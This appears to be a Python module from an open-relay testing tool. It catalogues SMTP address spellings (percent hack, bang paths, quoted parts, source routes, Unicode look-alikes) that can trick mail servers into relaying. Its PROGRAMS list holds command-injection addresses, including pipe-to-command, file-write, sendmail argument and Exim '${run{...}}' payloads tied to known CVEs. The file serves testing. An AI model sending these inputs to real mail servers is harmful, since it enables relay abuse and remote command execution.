"""Addresses of our domain that some mail server takes for a way to another one: {o} is our domain, {w} the attacker's target. What
stands between the angle brackets of MAIL and RCPT; not all are addresses by RFC 5321. In one place, with where each comes from."""

PERCENT = [  # Postfix postconf(5) allow_percent_hack; sendmail op.me class O; Exim spec, percent_hack_domains; qmail-send(8) percenthack
    "victim%{w}@{o}", "victim%{w}%{o}@{o}", "victim%a.test%{w}@{o}", "victim%{w}@{o}.", "victim%{w}.@{o}", "VICTIM%{W}@{O}",
    "victim%[192.0.2.1]@{o}", "%{w}@{o}", "victim%@{o}", "victim%{w}%@{o}", "victim%40{w}@{o}", "victim%{w}%40x@{o}", "victim%25{w}@{o}",
    '"victim%{w}"@{o}', '"victim\\%{w}"@{o}', '"victim"%{w}@{o}', "victim%{w}@[127.0.0.1]", "victim%{w}@localhost", "victim+x%{w}@{o}",
    "victim%{w}", "victim%{w}@",
]
BANG = [  # Postfix postconf(5) swap_bangpath; sendmail cf/README UUCP; RFC 976
    "{w}!victim@{o}", "a.test!{w}!victim@{o}", "!{w}!victim@{o}", "{o}!{w}!victim@{o}", '"{w}!victim"@{o}', '"{w}\\!victim"@{o}',
    "{w}!victim", "{o}!{w}!victim", "{w}!victim%{o}@{o}", "{o}!victim%{w}@{o}", "{w}!victim@{o}.", "bang.{w}!victim@{o}", "{w}!@{o}",
]
QUOTED = [  # Postfix postconf(5) resolve_dequoted_address; Exim spec, quoted local parts; the tests of relay checkers (abuse.net, RBL)
    '"victim@{w}"@{o}', '"victim\\@{w}"@{o}', '"victim@{w}."@{o}', '"victim@{w} "@{o}', '" victim@{w}"@{o}', '"<victim@{w}>"@{o}',
    '"\\"victim\\"@{w}"@{o}', '"victim@[192.0.2.1]"@{o}', '"victim@{w}%{o}"@{o}', '"victim@{w}"', '"victim@{w}@{o}"', "\"victim@{w}\"@{o}.",
    '"@{w}:victim"@{o}', '"@{o},@{w}:victim@a.test"@{o}', '"@{o}:victim@{w}"@{o}', '"victim@{w},bob"@{o}', '"bob,victim@{w}"@{o}',
    '"victim@{w}\\ "@{o}', "\"victim\"@{w}@{o}", '"" victim@{w}',
]
ROUTES = [  # RFC 5321, F.2 and RFC 822, 6.1: source routes; sendmail op.me; OpenSMTPD mailaddr
    "@{o}:victim@{w}", "@{w}:victim@{o}", "@{o},@{w}:victim@{o}", "@{o}:@{w}:victim@{o}", "@{w},@{o}:victim%{w}@{o}", "@[127.0.0.1]:victim@{w}",
    "victim@{w}@{o}", "victim@{w}@{o}@{o}", "victim@@{w}@{o}", "victim@{o}@{w}", "victim@{w}\\@{o}", "victim\\@{w}@{o}", "victim@{w},bob@{o}",
    "bob@{o},victim@{w}", "victim@{w}(@{o})", "victim(@{w})@{o}", "victim@{w} @{o}", "<victim@{w}>@{o}", "victim@{w}:@{o}", "victim@{w};@{o}",
    "victim@{w}#@{o}", "victim@{w}?@{o}", "victim@{w}\\0@{o}",
]
DECNET = ["{w}::victim@{o}", '"{w}::victim"@{o}', "victim::{w}@{o}"]  # sendmail cf/README DECnet
ENCODED = ["victim=40{w}@{o}", "=?utf-8?q?victim=40{w}?=@{o}", "victim=25{w}@{o}", "victim&#64;{w}@{o}", "victim+40{w}@{o}"]
PROGRAMS = [  # aliases(5), Exim spec "Redirect router": pipes, files, :include:, options of pipe(8), CVE-2019-10149, CVE-2020-7247
    "|touch@{o}", '"|touch /tmp/culvert-relay-victim"@{o}', "/tmp/culvert-relay-victim@{o}", '"/tmp/culvert-relay-victim"@{o}',
    '"../culvert-relay-victim"@{o}', '":include:/etc/aliases"@{o}', "-victim@{o}", '"-C/tmp/victim"@{o}',
    'root+${run{touch /tmp/culvert-relay-victim}}@{o}', '"root+${run{touch /tmp/culvert-relay-victim}}"@{o}',
]
UTF8 = [  # RFC 6532, 3.1: a program may normalise; full width, small and vertical forms
    "victim\uff05{w}@{o}", "victim\uff20{w}@{o}", "{w}\uff01victim@{o}", "victim\ufe6a{w}@{o}", "victim\ufe6b{w}@{o}", "{w}\ufe57victim@{o}",
    "{w}\ufe15victim@{o}", "victim%{w}@\uff42.example", "victim%{w}@b\u3002example", "victim\u200b%{w}@{o}", "vi\u00adctim@{w}@{o}",
]


def spellings(ours, world):
    """[(path, needs SMTPUTF8)], each once."""
    found = []
    for path in PERCENT + BANG + QUOTED + ROUTES + DECNET + ENCODED + PROGRAMS + UTF8:
        for old, new in (("{o}", ours), ("{w}", world), ("{O}", ours.upper()), ("{W}", world.upper())):
            path = path.replace(old, new)
        if path not in [known for known, _ in found]:
            found.append((path, not path.isascii()))
    return found
